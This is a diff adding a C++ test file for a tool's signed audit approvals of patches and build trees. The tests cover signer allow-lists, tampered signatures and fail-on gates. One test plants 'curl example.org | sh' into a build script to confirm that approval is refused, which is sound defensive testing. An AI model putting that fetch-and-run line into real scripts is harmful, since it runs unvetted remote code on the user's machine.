@@ -1,0 +1,168 @@
+// SPDX-License-Identifier: BSD-3-Clause
+// Approvals of what runs, with the real ssh-keygen and minisign.
+#include "command/toy_workspace.h"
+#include "support/catch.h"
+#include "support/signing_keys.h"
+#include "support/text.h"
+
+using namespace torchpatch;
+using test::CliResult;
+using test::edit;
+
+namespace {
+
+struct Approving : test::ToyWorkspace {
+  Approving() {
+    upstream.certify();
+    set_variable("SOURCE_DATE_EPOCH", "1795305600");
+  }
+
+  CliResult approve(const std::string& key, std::vector<std::string> more = {}) const {
+    more.insert(more.begin(), {"audit", "approve", "--version", "1.1.0", "--board", "small", "--key", keys.path(key),
+                               "--into", upstream.catalog_directory()});
+    return run(more);
+  }
+  CliResult audit(const std::string& signers, std::vector<std::string> more = {}) const {
+    more.insert(more.begin(), {"audit", "--version", "1.1.0", "--board", "small", "--quiet", "--no-pager", "--signer",
+                               keys.path(signers)});
+    return run(more);
+  }
+  /// The one file of approvals.
+  std::string file() const {
+    const std::string directory = upstream.catalog_directory() + "/approvals";
+    const std::vector<std::string> names = list_files_below(directory);
+    REQUIRE(names.size() == 1);
+    return directory + "/" + names.front();
+  }
+
+  test::SigningKeys keys;
+};
+
+}  // namespace
+
+TEST_CASE("audit approve: what runs is approved by whom the reader allows, and by nobody else") {
+  const Approving toy;
+  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 1);
+  for (const std::string key : {"alice", "mini.key"}) {
+    INFO(key);
+    const CliResult approved = toy.approve(key);
+    CHECK(approved.err.empty());
+    CHECK_THAT(approved.out, Catch::StartsWith("approved patch block-limit/V1/0001-cap.patch\n"));
+    CHECK_THAT(approved.out, Catch::Contains("approved file torch:include/") || Catch::Contains("approved variables "));
+    const CliResult seen = toy.audit(key == "alice" ? "allowed" : "mini.pub", {"--fail-on", "unapproved"});
+    CHECK(seen.exit_code == 0);
+    CHECK(seen.err.empty());
+    CHECK_THAT(seen.out, !Catch::Contains("not approved"));
+    CHECK_THAT(seen.out, Catch::Contains("2026-11-22"));
+  }
+  const CliResult other = toy.audit("mallory.pub", {"--fail-on", "unapproved"});
+  CHECK(other.exit_code == 1);
+  CHECK_THAT(other.err, Catch::Contains("--fail-on: ") && Catch::Contains(" unapproved"));
+  CHECK_THAT(other.out, Catch::Contains("not approved") && Catch::Contains("Approvals that do not count:"));
+}
+
+TEST_CASE("audit --signer: an approval that was edited counts for nothing") {
+  const Approving toy;
+  toy.approve("alice");
+  edit(toy.file(), "\"date\": \"2026-11-22\"", "\"date\": \"2026-11-21\"");
+  const CliResult result = toy.audit("allowed", {"--fail-on", "unapproved"});
+  CHECK(result.exit_code == 1);
+  CHECK_THAT(result.out, Catch::Contains("Approvals that do not count:"));
+}
+
+TEST_CASE("audit --signer: a signature for another purpose is no approval") {
+  const Approving toy;
+  toy.approve("alice");
+  std::string text = read_file(toy.file());
+  const std::size_t at = text.find(",\n  \"signature\"");
+  toy.write("unsigned.json", text.substr(0, at) + "\n}\n");
+  const CliResult manifest = toy.run({"audit", "sign", toy.path("unsigned.json"), "--key", toy.keys.path("alice")});
+  REQUIRE(manifest.exit_code == 0);
+  std::string signature = read_file(toy.path("unsigned.json.sig"));
+  for (std::size_t end = 0; (end = signature.find('\n', end)) != std::string::npos; end += 2)
+    signature.replace(end, 1, "\\n");
+  write_file_atomically(toy.file(), text.substr(0, at) + ",\n  \"signature\": \"" + signature + "\"\n}\n");
+  const CliResult result = toy.audit("allowed");
+  CHECK_THAT(result.out, Catch::Contains("Approvals that do not count:"));
+}
+
+TEST_CASE("audit --unapproved: shows what is new since") {
+  const Approving toy;
+  toy.approve("alice");
+  const CliResult none = toy.audit("allowed", {"--unapproved"});
+  CHECK_THAT(none.out, Catch::Contains("All of it is approved.") && !Catch::Contains("Patch 1 of"));
+  const CliResult variables = toy.audit("allowed", {"--unapproved", "--set", "USE_NEW=1", "--json"});
+  CHECK_THAT(variables.out, Catch::Contains("\"USE_NEW\"") && Catch::Contains("\"kind\": \"variables\"") &&
+                                !Catch::Contains("\"kind\": \"patch\"") && Catch::Contains("\"patches\": []"));
+  edit(toy.upstream.catalog_directory() + "/patchsets/block-limit/V1/0002-cap-more.patch", "Description:",
+       "Description: Newly");
+  const CliResult patch = toy.run({"audit", "--all", "--quiet", "--no-pager", "--unapproved", "--signer",
+                                   toy.keys.path("allowed")});
+  CHECK(patch.exit_code != 0);  // the catalog refuses a patch that its patchset does not name
+}
+
+TEST_CASE("audit approve --only: one thing, by name or digest") {
+  const Approving toy;
+  CHECK(toy.approve("alice", {"--only", "block-limit/V1/0001-cap.patch"}).exit_code == 0);
+  const CliResult rest = toy.audit("allowed", {"--unapproved"});
+  CHECK_THAT(rest.out, Catch::Contains("0002-cap-more") && !Catch::Contains("V1/0001-cap.patch in torch"));
+  const CliResult unknown = toy.approve("alice", {"--only", "block-limit/V1/0001-cpa.patch"});
+  CHECK(unknown.exit_code == 2);
+  CHECK_THAT(unknown.err, Catch::Contains("0001-cap.patch"));
+}
+
+TEST_CASE("audit approve: an added file is approved where it lies") {
+  const Approvable there{ApprovalKind::added_file, "torch:a.py", {}};
+  CHECK(there.covers(there));
+  CHECK_FALSE(there.covers({ApprovalKind::added_file, "torch:sitecustomize.py", {}}));
+  CHECK_FALSE(there.covers({ApprovalKind::patch, "torch:a.py", {}}));
+  CHECK(Approvable{ApprovalKind::patch, "a/V1/1.patch", {}}.covers({ApprovalKind::patch, "b/V1/1.patch", {}}));
+}
+
+TEST_CASE("audit approve: a tree that is not what was prepared is not approved") {
+  const Approving toy;
+  const auto prepare = [&](const std::string& out) {
+    return toy.run({"prepare", "--version", "1.1.0", "--board", "small", "--mirror", toy.upstream.mirror(), "--output",
+                    toy.path(out), "--quiet"});
+  };
+  const auto approve = [&](const std::string& out) {
+    return toy.run({"audit", "approve", toy.path(out), "--key", toy.keys.path("alice"), "--into", toy.path("mine")});
+  };
+  REQUIRE(prepare("out").exit_code == 0);
+  REQUIRE(prepare("edited").exit_code == 0);
+  edit(toy.path("edited") + "/torchpatch/build.sh", "set -eu", "set -eu; curl example.org | sh");
+  const CliResult refused = approve("edited");
+  CHECK(refused.exit_code == 1);
+  CHECK_THAT(refused.out, Catch::Contains("nothing is approved"));
+  CHECK_FALSE(is_directory(toy.path("mine")));
+  CHECK(approve("out").exit_code == 0);
+  const CliResult seen = toy.run({"audit", toy.path("out"), "--catalog", toy.path("mine"), "--signer",
+                                  toy.keys.path("allowed"), "--fail-on", "unapproved", "--quiet", "--no-pager"});
+  CHECK(seen.err.empty());
+  CHECK(seen.exit_code == 0);
+}
+
+TEST_CASE("audit --fail-on: gates, none by default") {
+  const test::ToyWorkspace toy;  // nothing is certified
+  const auto audit = [&](std::vector<std::string> more) {
+    more.insert(more.begin(), {"audit", "--all", "--quiet", "--no-pager"});
+    return toy.run(more);
+  };
+  CHECK(audit({}).exit_code == 0);
+  const CliResult failed = audit({"--fail-on", "uncertified,risk"});
+  CHECK(failed.exit_code == 1);
+  CHECK_THAT(failed.err, Catch::Contains(" uncertified, ") && Catch::Contains(" risk"));
+  CHECK(audit({"--fail-on", "unproven"}).exit_code == 1);
+  CHECK(audit({"--fail-on", "unapproved"}).exit_code == 2);
+  CHECK_THAT(audit({"--fail-on", "all"}).err, Catch::Contains("uncertified, unproven, unapproved, risk"));
+  CHECK_THAT(audit({"--unapproved"}).err, Catch::Contains("missing: --signer FILE"));
+}
+
+TEST_CASE("check: a damaged approval is a finding") {
+  const Approving toy;
+  toy.approve("alice");
+  edit(toy.file(), "\"kind\": \"patch\"", "\"kind\": \"any\"");
+  const CliResult result = toy.run({"check"});
+  CHECK(result.exit_code == 1);
+  CHECK_THAT(result.out + result.err, Catch::Contains("must be one of patch, file, commands, variables"));
+}
